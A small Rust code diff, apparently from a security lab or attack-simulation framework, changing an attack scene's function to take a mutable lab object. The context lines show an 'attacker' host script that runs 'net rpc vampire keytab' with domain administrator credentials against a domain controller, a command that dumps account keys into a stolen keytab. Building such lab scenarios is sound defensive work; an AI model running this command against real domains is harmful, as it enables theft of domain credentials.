@@ -19,7 +19,7 @@ pub(super) const SCENE: Scene = Scene::attack(
     play,
 );
 
-fn play(lab: &Lab) -> Result<()> {
+fn play(lab: &mut Lab) -> Result<()> {
     lab.host("attacker")?.script(
         r#"net rpc vampire keytab stolen.keytab -U "HAWK/dana.admin%$ADMIN_PASSWORD" \
                -S "dc1.$DOMAIN" | grep Vampired
